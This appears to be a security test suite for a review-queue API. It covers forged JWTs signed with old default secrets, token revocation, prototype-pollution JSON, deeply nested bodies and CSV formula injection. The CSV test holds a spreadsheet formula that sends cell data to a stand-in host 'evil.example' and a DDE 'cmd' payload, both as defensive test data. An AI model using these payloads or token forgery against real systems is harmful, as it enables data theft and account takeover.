/**
 * Trust: secrets, token revocation, authorization before validation, what API keys may see,
 * metrics, security headers, free-form JSON kept exactly, CSV formula cells. Tried the way an
 * attacker would, against real servers started as the README's quick start says (no JWT_SECRET).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parseCsv } from '../feedback/csv';
import { connectLive } from '../support/live-client';
import {
  ADMIN,
  Api,
  apiKey,
  createQueue,
  eventually,
  login,
  RunningServer,
  serverPerFile,
  sql,
  submission,
  testContext,
  userApi,
} from '../support/harness';

const ctx = testContext(__filename);
const METRICS_TOKEN = 'metrics-token-for-tests-0123456789';
let server: RunningServer;
let second: RunningServer;
let admin: Api;
let adminId: string;

/** An HS256 JWT signed with `secret`, as anyone who read the source could make one. */
function forgeToken(secret: string, claims: Record<string, unknown>): string {
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const now = Math.floor(Date.now() / 1000);
  const unsigned = `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ iat: now, exp: now + 3600, ...claims })}`;
  return `${unsigned}.${createHmac('sha256', secret).update(unsigned).digest('base64url')}`;
}

/**
 * Canonical text of a parsed JSON value with sorted keys (jsonb orders keys its own way).
 * Object.keys sees an own "__proto__" key like any other.
 */
function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (value !== null && typeof value === 'object')
    return `{${Object.keys(value)
      .sort()
      .map((k) => `${JSON.stringify(k)}:${canonical((value as Record<string, unknown>)[k])}`)
      .join(',')}}`;
  return JSON.stringify(value);
}

/** A JSON text nested `depth` levels deep inside `output`. */
function deepBody(depth: number): string {
  return `{"model":{"name":"m"},"confidence":0.5,"output":${'['.repeat(depth)}${']'.repeat(depth)}}`;
}

serverPerFile(
  ctx,
  async (started) => {
    [server, second] = started.servers;
    admin = started.admin;
    adminId = (await admin.get('/v1/auth/me')).body.id;
    await createQueue(admin, 'alpha');
    await createQueue(admin, 'beta', { webhookUrl: null });
  },
  // As the quick start says: no JWT_SECRET (the harness sets one; '' unsets it).
  { env: { JWT_SECRET: '', METRICS_TOKEN }, instances: 2 },
);

describe('JWT secret', () => {
  it('without JWT_SECRET, a token signed with the old public constant is refused (401)', async () => {
    const forged = forgeToken('dev-only-secret-change-me', { sub: adminId, tv: 0 });
    assert.equal((await admin.as(forged).get('/v1/api-keys')).status, 401);
    // docker-compose's old default is just as public.
    const compose = forgeToken('change-me-to-a-long-random-secret', { sub: adminId, tv: 0 });
    assert.equal((await admin.as(compose).get('/v1/api-keys')).status, 401);
  });

  it('generates one random secret, stores it in the database for every instance, and says so once', async () => {
    const rows = await sql<{ value: string }>(
      ctx,
      `SELECT value FROM settings WHERE key = 'jwt_secret'`,
    );
    assert.equal(rows.length, 1);
    assert.ok(rows[0].value.length >= 43, 'a 256-bit secret');
    // The control: a token signed with the stored secret is what both instances accept.
    const genuine = forgeToken(rows[0].value, { sub: adminId, tv: 0 });
    assert.equal((await admin.as(genuine).get('/v1/api-keys')).status, 200);
    assert.equal((await new Api(second.url, admin.token).get('/v1/api-keys')).status, 200);
    const said = [...server.logs, ...second.logs]
      .join('')
      .split('\n')
      .filter((l) => l.includes('generated a random 256-bit secret'));
    assert.equal(said.length, 1);
  });

  it('with NODE_ENV=production, a JWT_SECRET shorter than 32 characters stops the process with one line', () => {
    const result = spawnSync(process.execPath, [join(__dirname, '..', '..', 'src', 'main.js')], {
      env: {
        ...process.env,
        NODE_ENV: 'production',
        JWT_SECRET: 'x',
        DATABASE_URL: ctx.databaseUrl,
      },
      encoding: 'utf8',
      timeout: 60_000,
    });
    assert.equal(result.status, 1);
    const lines = result.stderr.trim().split('\n');
    assert.equal(lines.length, 1, result.stderr);
    assert.match(lines[0], /JWT_SECRET must be at least 32 characters/);
  });
});

describe('token revocation', () => {
  it('a token issued before a password change is refused on every instance', async () => {
    const user = await userApi(admin, ['reviewer'], ['alpha']);
    const onSecond = new Api(second.url, user.token);
    assert.equal((await onSecond.get('/v1/auth/me')).status, 200); // cached there now
    assert.equal(
      (await admin.patch(`/v1/users/${user.user.id}`, { password: 'a-new-password-1' })).status,
      200,
    );
    assert.equal((await user.get('/v1/auth/me')).status, 401);
    // Pushed through Redis at once; the bound stays under the 5 s principal cache, so a missed
    // invalidation would fail here rather than pass by expiry.
    await eventually(async () => (await onSecond.get('/v1/auth/me')).status === 401, 4_000, 50);
    const fresh = await login(server.url, user.user.email, 'a-new-password-1');
    assert.equal((await fresh.get('/v1/auth/me')).status, 200);
  });

  it('a token issued before disabling stays refused after the user is enabled again', async () => {
    const user = await userApi(admin, ['reviewer'], ['alpha']);
    assert.equal((await admin.patch(`/v1/users/${user.user.id}`, { disabled: true })).status, 200);
    assert.equal((await user.get('/v1/auth/me')).status, 401);
    assert.equal((await admin.patch(`/v1/users/${user.user.id}`, { disabled: false })).status, 200);
    assert.equal((await user.get('/v1/auth/me')).status, 401);
    assert.equal((await new Api(second.url, user.token).get('/v1/auth/me')).status, 401);
    const fresh = await login(server.url, user.user.email, 'password-123');
    assert.equal((await fresh.get('/v1/auth/me')).status, 200);
  });

  it('a change of roles or queues revokes tokens; a change of name does not', async () => {
    const user = await userApi(admin, ['reviewer'], ['alpha']);
    assert.equal((await admin.patch(`/v1/users/${user.user.id}`, { name: 'Renamed' })).status, 200);
    assert.equal((await user.get('/v1/auth/me')).status, 200);
    assert.equal(
      (await admin.patch(`/v1/users/${user.user.id}`, { queues: ['beta'] })).status,
      200,
    );
    assert.equal((await user.get('/v1/auth/me')).status, 401);
  });

  it('a socket that loses its queue is disconnected within 2 seconds and hears nothing more', async () => {
    const reviewer = await userApi(admin, ['reviewer'], ['alpha']);
    const product = await apiKey(admin, ['alpha']);
    // The socket lives on the other instance: the revocation must cross instances.
    const live = await connectLive(second.url, reviewer.token);
    try {
      assert.deepEqual(await live.subscribe('alpha'), { ok: true });
      const first = await product.post('/v1/queues/alpha/items', submission({ confidence: 0.2 }));
      await live.waitFor('item.queued', (d: { id: string }) => d.id === first.body.id);
      const disconnected = new Promise<string>((resolve, reject) => {
        live.socket.once('disconnect', (reason) => resolve(reason));
        setTimeout(() => reject(new Error('still connected after 10 s')), 10_000).unref();
      });
      // Pushed through Redis to the instance holding the socket (milliseconds; the contract allows
      // 2 s), not discovered on the socket's next request.
      await admin.patch(`/v1/users/${reviewer.user.id}`, { queues: ['beta'] });
      const reason = await disconnected;
      assert.equal(reason, 'io server disconnect');
      const before = live.received.length;
      await product.post('/v1/queues/alpha/items', submission({ confidence: 0.2 }));
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(live.received.length, before);
      // Reconnecting with the old token is refused.
      await assert.rejects(connectLive(second.url, reviewer.token), /unauthorized/);
    } finally {
      live.close();
    }
  });

  it("a disabled user's socket is disconnected", async () => {
    const reviewer = await userApi(admin, ['reviewer'], ['alpha']);
    const live = await connectLive(server.url, reviewer.token);
    try {
      assert.deepEqual(await live.subscribe('alpha'), { ok: true });
      const disconnected = new Promise<void>((resolve, reject) => {
        live.socket.once('disconnect', () => resolve());
        setTimeout(() => reject(new Error('still connected after 10 s')), 10_000).unref();
      });
      await admin.patch(`/v1/users/${reviewer.user.id}`, { disabled: true });
      await disconnected;
    } finally {
      live.close();
    }
  });
});

describe('users', () => {
  it('the last active admin cannot be disabled or lose the admin role (409)', async () => {
    const disable = await admin.patch(`/v1/users/${adminId}`, { disabled: true });
    assert.equal(disable.status, 409, JSON.stringify(disable.body));
    assert.match(disable.body.message, /last active admin/);
    assert.equal((await admin.patch(`/v1/users/${adminId}`, { roles: ['lead'] })).status, 409);
    assert.equal((await admin.get('/v1/auth/me')).status, 200);
    // With a second admin, one of them may go.
    const other = await userApi(admin, ['admin']);
    assert.equal(
      (await admin.patch(`/v1/users/${other.user.id}`, { roles: ['lead'] })).status,
      200,
    );
    assert.equal((await admin.patch(`/v1/users/${adminId}`, { disabled: true })).status, 409);
  });

  it('{"disabled": "false"} is a 400, not a disabled user', async () => {
    const user = await userApi(admin, ['reviewer']);
    const res = await admin.patch(`/v1/users/${user.user.id}`, { disabled: 'false' });
    assert.equal(res.status, 400);
    assert.match(res.body.message, /disabled/);
    assert.equal((await user.get('/v1/auth/me')).status, 200);
  });
});

describe('authorization before validation', () => {
  it('a caller who may not use a route gets 403 whatever the body', async () => {
    const reviewer = await userApi(admin, ['reviewer'], ['alpha']);
    const analyst = await userApi(admin, ['analyst']);
    const product = await apiKey(admin, ['alpha']);
    const cases: [Api, string, string, unknown][] = [
      [reviewer, 'POST', '/v1/users', { email: 42, roles: 'nope' }],
      [reviewer, 'POST', '/v1/users', 'not json at all {'],
      [reviewer, 'POST', '/v1/users', `{"name":"${'x'.repeat(1_100_000)}"}`],
      [reviewer, 'PATCH', `/v1/users/${adminId}`, { disabled: 'yes' }],
      [reviewer, 'POST', '/v1/api-keys', { scopes: [1] }],
      [analyst, 'POST', '/v1/queues', { slug: 'BAD SLUG' }],
      [reviewer, 'PATCH', '/v1/queues/alpha', { leaseSeconds: 'x' }],
      [product, 'POST', '/v1/queues/beta/items', { confidence: 'high' }],
      [product, 'POST', '/v1/queues/beta/items/batch', { items: 'none' }],
      [product, 'POST', `/v1/items/${adminId}/decision`, { action: 'dance' }],
      [reviewer, 'POST', '/v1/feedback/exports', { format: 42 }],
      [reviewer, 'POST', '/v1/queues/alpha/policy/simulate', { autoApproveAt: 'x' }],
    ];
    for (const [api, method, path, body] of cases) {
      const res = await api.request(method, path, body);
      assert.equal(res.status, 403, `${method} ${path}: ${res.status} ${JSON.stringify(res.body)}`);
    }
  });

  it('claims and queue reads answer 403 whether or not the queue exists (no enumeration)', async () => {
    const reviewer = await userApi(admin, ['reviewer'], ['alpha']);
    const product = await apiKey(admin, ['alpha']);
    for (const slug of ['beta', 'no-such-queue']) {
      assert.equal((await reviewer.post(`/v1/queues/${slug}/claim`)).status, 403);
      assert.equal((await reviewer.get(`/v1/queues/${slug}`)).status, 403);
      assert.equal((await product.get(`/v1/queues/${slug}/items`)).status, 403);
      assert.equal((await reviewer.get(`/v1/queues/${slug}/stats`)).status, 403);
    }
    assert.equal((await admin.post('/v1/queues/no-such-queue/claim')).status, 404);
  });
});

describe('what API keys see', () => {
  it('reviewers appear as the pseudonyms the exports use, never as ids or emails', async () => {
    await createQueue(admin, 'pseudo');
    const product = await apiKey(admin, ['pseudo']);
    const item = (await product.post('/v1/queues/pseudo/items', submission({ confidence: 0.2 })))
      .body;
    const claimed = await admin.post('/v1/queues/pseudo/claim');
    assert.equal(claimed.status, 200);
    assert.equal(claimed.body.item.review.claimedBy, adminId); // a person sees the id
    const whileClaimed = await product.get(`/v1/items/${item.id}`);
    assert.match(whileClaimed.body.review.claimedBy, /^rv_[0-9a-f]{32}$/);
    const listed = await product.get('/v1/queues/pseudo/items');
    assert.equal(listed.body.items[0].review.claimedBy, whileClaimed.body.review.claimedBy);
    const decided = await admin.post(`/v1/items/${item.id}/decision`, {
      action: 'reject',
      reason: 'wrong amount',
    });
    assert.equal(decided.status, 200, JSON.stringify(decided.body));
    const seen = await product.get(`/v1/items/${item.id}`);
    const events = await product.get(`/v1/items/${item.id}/events`);
    const searched = await product.get('/v1/items?queue=pseudo');
    assert.equal(searched.status, 200, JSON.stringify(searched.body));
    // An id from an API key matches nothing (reviewers are known to it by pseudonym only).
    const byId = await product.get(`/v1/items?queue=pseudo&reviewer=${adminId}`);
    assert.deepEqual(byId.body.items, []);
    const exported = await admin.get('/v1/feedback/export?format=jsonl&queue=pseudo');
    // One decision: the harness already parsed the single jsonl line.
    const pseudonym = (exported.body as { reviewer: string }).reviewer;
    assert.equal(seen.body.reviews[0].reviewer, pseudonym);
    assert.equal(whileClaimed.body.review.claimedBy, pseudonym);
    assert.ok(events.body.events.some((e: { actor: string }) => e.actor === `user:${pseudonym}`));
    for (const body of [whileClaimed.body, listed.body, seen.body, events.body, searched.body]) {
      const text = JSON.stringify(body);
      assert.ok(!text.includes(adminId), 'no user id');
      assert.ok(!text.includes(ADMIN.email), 'no email');
    }
  });

  it('a write-only key does not read webhookUrl or routing internals of its queue', async () => {
    await createQueue(admin, 'hooked-queue', {
      webhookUrl: 'https://hooks.example.com/verdict',
      policy: { autoApproveAt: 0.9, blockBelow: 0.5 },
    });
    const writer = await apiKey(admin, ['*'], ['items:write']);
    for (const res of [await writer.get('/v1/queues'), await writer.get('/v1/queues/alpha')]) {
      assert.equal(res.status, 200);
      const text = JSON.stringify(res.body);
      assert.ok(!text.includes('webhookUrl'), text);
      assert.ok(!text.includes('autoApproveAt'), text);
    }
  });
});

describe('metrics and headers', () => {
  it('with METRICS_TOKEN set, /metrics needs the bearer token', async () => {
    const raw = (headers: Record<string, string>) => fetch(`${server.url}/metrics`, { headers });
    assert.equal((await raw({})).status, 401);
    assert.equal((await raw({ authorization: 'Bearer wrong' })).status, 401);
    assert.equal((await raw({ authorization: `Bearer ${admin.token}` })).status, 401);
    const ok = await raw({ authorization: `Bearer ${METRICS_TOKEN}` });
    assert.equal(ok.status, 200);
    assert.match(await ok.text(), /verdict_|process_cpu/);
  });

  it('every response carries a CSP without inline scripts and with frame-ancestors none, nosniff and a Referrer-Policy', async () => {
    for (const [path, headers] of [
      ['/', { accept: 'text/html' }],
      ['/v1/queues', { authorization: `Bearer ${admin.token}` }],
      ['/v1/nope', {}],
      ['/docs', { accept: 'text/html' }],
      ['/health', {}],
    ] as [string, Record<string, string>][]) {
      const res = await fetch(`${server.url}${path}`, { headers });
      const csp = res.headers.get('content-security-policy') ?? '';
      assert.match(csp, /frame-ancestors 'none'/, path);
      assert.match(csp, /script-src 'self'(;|$)/, path);
      assert.doesNotMatch(csp, /script-src[^;]*unsafe-inline/, path);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff', path);
      assert.ok(res.headers.get('referrer-policy'), path);
      await res.body?.cancel();
    }
  });
});

describe('free-form JSON', () => {
  it('a body nested 10 000 deep is a 400 naming the field, on every route that takes JSON', async () => {
    const product = await apiKey(admin, ['alpha']);
    const res = await product.post('/v1/queues/alpha/items', deepBody(10_000));
    assert.equal(res.status, 400, JSON.stringify(res.body));
    assert.match(res.body.message, /output is nested more than 64 levels/);
    const batch = await product.post(
      '/v1/queues/alpha/items/batch',
      `{"items":[${deepBody(10_000)}]}`,
    );
    assert.equal(batch.status, 400);
    const deepObject = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
    for (const [method, path, body] of [
      ['PUT', '/v1/queues/alpha/policy', deepObject],
      ['PATCH', '/v1/queues/alpha', `{"outputSchema":${deepObject}}`],
      ['POST', '/v1/queues', `{"slug":"deep","name":"d","policy":${deepObject}}`],
    ]) {
      const r = await admin.request(method, path, body);
      assert.equal(r.status, 400, `${method} ${path}: ${r.status}`);
    }
    // 64 levels inside a field are fine; 65 are not.
    assert.equal((await product.post('/v1/queues/alpha/items', deepBody(64))).status, 201);
    const over = await product.post('/v1/queues/alpha/items', deepBody(65));
    assert.equal(over.status, 400, JSON.stringify(over.body));
    assert.match(over.body.message, /output is nested more than 64 levels/);
    assert.equal((await server.logs.join('')).includes('RangeError'), false);
  });

  it('keeps constructor and __proto__ keys exactly as sent, at any depth', async () => {
    const product = await apiKey(admin, ['alpha']);
    const sent =
      '{"model":{"name":"m"},"confidence":0.2,' +
      '"input":{"constructor":{"prototype":{"x":1}},"__proto__":{"polluted":true}},' +
      '"output":{"__proto__":{"a":[{"constructor":"c"}]},"constructor":1,"deep":{"__proto__":null}},' +
      '"metadata":{"constructor":"m","nested":{"__proto__":{"k":"v"}}}}';
    const expected = JSON.parse(sent) as Record<string, unknown>;
    const res = await product.post('/v1/queues/alpha/items', sent);
    assert.equal(res.status, 201, JSON.stringify(res.body));
    const raw = await fetch(`${server.url}/v1/items/${res.body.id}`, {
      headers: { authorization: `Bearer ${product.token}` },
    });
    const got = JSON.parse(await raw.text()) as Record<string, unknown>;
    for (const field of ['input', 'output', 'metadata'])
      assert.equal(canonical(got[field]), canonical(expected[field]), field);
    const [stored] = await sql<{ output: string }>(
      ctx,
      'SELECT output::text AS output FROM items WHERE id = $1',
      [res.body.id],
    );
    assert.match(stored.output, /"__proto__"/);
    assert.match(stored.output, /"constructor"/);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);

    // The batch route and a correction keep them too.
    const batch = await product.post('/v1/queues/alpha/items/batch', `{"items":[${sent}]}`);
    const batchItem = batch.body.results[0];
    assert.equal(canonical(batchItem.output), canonical(expected.output));
    const claimed = await admin.post('/v1/queues/alpha/claim');
    const corrected = '{"__proto__":{"fixed":true},"constructor":"ok"}';
    const decided = await admin.post(
      `/v1/items/${claimed.body.item.id}/decision`,
      `{"action":"correct","reason":"r","correctedOutput":${corrected}}`,
    );
    assert.equal(decided.status, 200, JSON.stringify(decided.body));
    const again = JSON.parse(
      await (
        await fetch(`${server.url}/v1/items/${claimed.body.item.id}`, {
          headers: { authorization: `Bearer ${admin.token}` },
        })
      ).text(),
    ) as { finalOutput: unknown };
    assert.equal(canonical(again.finalOutput), canonical(JSON.parse(corrected)));
  });
});

describe('CSV exports', () => {
  it('prefixes cells a spreadsheet would run as formulas with an apostrophe', async () => {
    await createQueue(admin, 'csv-q');
    const product = await apiKey(admin, ['csv-q']);
    const reasons = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
    ];
    for (const reason of reasons) {
      await product.post('/v1/queues/csv-q/items', submission({ confidence: 0.2 }));
      const claimed = await admin.post('/v1/queues/csv-q/claim');
      const res = await admin.post(`/v1/items/${claimed.body.item.id}/decision`, {
        action: 'reject',
        reason,
        comment: reason,
      });
      assert.equal(res.status, 200, JSON.stringify(res.body));
    }
    const res = await admin.get('/v1/feedback/export?format=csv&queue=csv-q');
    const rows = parseCsv(res.body as string);
    const column = (name: string) => rows.slice(1).map((r) => r[rows[0].indexOf(name)]);
    assert.deepEqual(column('reason').sort(), reasons.map((r) => `'${r}`).sort());
    assert.deepEqual(column('comment').sort(), reasons.map((r) => `'${r}`).sort());
    // Harmless cells are untouched.
    assert.ok(column('queue').every((q) => q === 'csv-q'));
  });
});
